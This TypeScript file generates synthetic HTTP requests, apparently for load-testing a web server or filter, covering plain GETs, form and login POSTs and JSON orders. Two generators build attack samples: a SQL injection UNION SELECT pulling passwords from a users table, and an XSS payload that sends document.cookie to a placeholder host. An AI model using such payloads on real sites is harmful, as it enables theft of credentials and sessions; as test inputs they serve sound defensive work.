import type { Random } from './random.ts'
import { type Headers, type SampleRequest, sample } from './sample-request.ts'

export interface RequestShape {
  readonly name: string
  /** A new request of this shape; no two are alike. */
  readonly make: (random: Random) => SampleRequest
}

export const requestShapes: readonly RequestShape[] = [
  { name: 'bare GET', make: r => get(page(r), plainHeaders(r)) },
  { name: 'GET, 3 arguments', make: r => get(`${page(r)}?${query(r, 3)}`, plainHeaders(r)) },
  { name: 'GET, 12 arguments', make: r => get(`${page(r)}?${query(r, 12)}`, plainHeaders(r)) },
  { name: 'browser GET, 24 headers, 8 cookies', make: r => get(page(r), browserHeaders(r)) },
  { name: 'form POST, 10 fields', make: r => form(r, '/account/address', query(r, 10)) },
  { name: 'login POST', make: r => form(r, '/login', login(r)) },
  { name: 'JSON 2 KB, 101 values', make: r => json(r, 25, 2048) },
  { name: 'JSON 32 KB, 493 values', make: r => json(r, 123, 32_768) },
  { name: 'text form POST, 4 KB', make: r => form(r, '/comment', `text=${encode(r.text(4096))}`) },
  { name: 'SQLi, browser GET', make: r => get(`/item?id=${encode(sqlInjection(r))}`, browserHeaders(r)) },
  { name: 'XSS, browser GET', make: r => get(`/search?q=${encode(scriptInjection(r))}`, browserHeaders(r)) },
]

/** Composition of the mixed load, in percent. */
export const mixedLoad: readonly (readonly [shape: string, percent: number])[] = [
  ['bare GET', 20],
  ['GET, 12 arguments', 25],
  ['browser GET, 24 headers, 8 cookies', 25],
  ['form POST, 10 fields', 18],
  ['JSON 2 KB, 101 values', 10],
  ['JSON 32 KB, 493 values', 2],
]

/** Of every hundred consecutive requests each shape has its share. */
export const mixedShape: RequestShape = {
  name: 'mixed load',
  make: random => {
    // 37 has no divisor in common with 100: every index comes once, and neighbours are apart.
    return shapeNamed(mixedNames[(drawn++ * 37) % 100]!).make(random)
  },
}
const mixedNames = mixedLoad.flatMap(([name, percent]) => Array<string>(percent).fill(name))
let drawn = 0

function shapeNamed(name: string): RequestShape {
  return requestShapes.find(shape => shape.name === name)!
}

function get(target: string, headers: Headers): SampleRequest {
  return sample('GET', target, headers, '')
}

function post(random: Random, target: string, type: string, body: string): SampleRequest {
  const headers = [
    ...browserHeaders(random),
    ['Content-Type', type],
    ['Content-Length', String(body.length)],
    ['Origin', 'https://www.example.com'],
  ] as const
  return sample('POST', target, headers, body)
}

function form(random: Random, target: string, body: string): SampleRequest {
  return post(random, target, 'application/x-www-form-urlencoded', body)
}

/** An order with this many items, four values each, whose names fill the length. */
function json(random: Random, items: number, length: number): SampleRequest {
  const nameLength = Math.floor(length / items) - 56
  const order = {
    customer: random.token(12),
    items: Array.from({ length: items }, () => item(random, nameLength)),
  }
  return post(random, '/api/orders', 'application/json', JSON.stringify(order))
}

function item(random: Random, nameLength: number): object {
  return {
    sku: `${random.token(3)}-${random.number(9000) + 1000}`,
    name: random.text(nameLength),
    count: random.number(9) + 1,
    price: random.number(10_000) / 100,
  }
}

function encode(text: string): string {
  return encodeURIComponent(text).replaceAll('%20', '+')
}

function page(random: Random): string {
  return `/${random.word()}/${random.word()}-${random.number(10_000)}.html`
}

function query(random: Random, pairs: number): string {
  return Array.from({ length: pairs }, (_, i) => `${random.word()}${i}=${argument(random)}`).join('&')
}

function argument(random: Random): string {
  const kind = random.number(4)
  if (kind === 0) return String(random.number(100_000))
  if (kind === 1) return random.token(12)
  return encode(random.text(kind === 2 ? 8 : 20))
}

function login(random: Random): string {
  const user = `${random.word()}.${random.word()}@example.com`
  return `username=${encode(user)}&password=${encode(`${random.token(12)}!`)}&csrf_token=${random.hex(64)}&remember=1`
}

function sqlInjection(random: Random): string {
  const name = random.word()
  return `${random.number(1000)}' UNION SELECT ${name}, password FROM users WHERE '${name}'='${name}`
}

function scriptInjection(random: Random): string {
  return `"><script>fetch('//${random.word()}.example/?c='+document.cookie)</script>`
}

function plainHeaders(random: Random): Headers {
  return [
    ['Host', 'www.example.com'],
    ['User-Agent', `shop-client/${random.number(9)}.${random.number(99)}`],
    ['Accept', '*/*'],
    ['X-Request-Id', random.hex(16)],
  ]
}

/** 24 lines with 8 cookies in one of them. */
function browserHeaders(random: Random): Headers {
  const version = 130 + random.number(12)
  return [
    ['Host', 'www.example.com'],
    ['Connection', 'keep-alive'],
    ['Cache-Control', 'max-age=0'],
    ['sec-ch-ua', `"Chromium";v="${version}", "Google Chrome";v="${version}", "Not_A Brand";v="24"`],
    ['sec-ch-ua-mobile', '?0'],
    ['sec-ch-ua-platform', '"Linux"'],
    ['Upgrade-Insecure-Requests', '1'],
    ['User-Agent', userAgent(version, random)],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
    ['Sec-Fetch-Site', 'same-origin'],
    ['Sec-Fetch-Mode', 'navigate'],
    ['Sec-Fetch-User', '?1'],
    ['Sec-Fetch-Dest', 'document'],
    ['Referer', `https://www.example.com${page(random)}`],
    ['Accept-Encoding', 'gzip, deflate, br, zstd'],
    ['Accept-Language', 'en-GB,en;q=0.9,de;q=0.8'],
    ['Cookie', cookies(random)],
    ['If-None-Match', `"${random.hex(16)}"`],
    ['DNT', '1'],
    ['Priority', 'u=0, i'],
    ['Via', '1.1 edge.example.net'],
    ['X-Forwarded-For', `198.51.100.${random.number(256)}`],
    ['X-Forwarded-Proto', 'https'],
    ['X-Request-Id', `${random.hex(8)}-${random.hex(4)}-${random.hex(12)}`],
  ]
}

function userAgent(version: number, random: Random): string {
  return `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.${random.number(9999)}.0 Safari/537.36`
}

function cookies(random: Random): string {
  const time = 1_700_000_000 + random.number(10_000_000)
  return [
    `_ga=GA1.2.${random.number(2_000_000_000)}.${time}`,
    `_gid=GA1.2.${random.number(2_000_000_000)}.${time}`,
    `session=${random.hex(32)}`,
    `cart=${random.token(20)}`,
    'theme=dark',
    'lang=en-GB',
    `seen=${random.number(50)}`,
    `consent=${random.token(24)}`,
  ].join('; ')
}
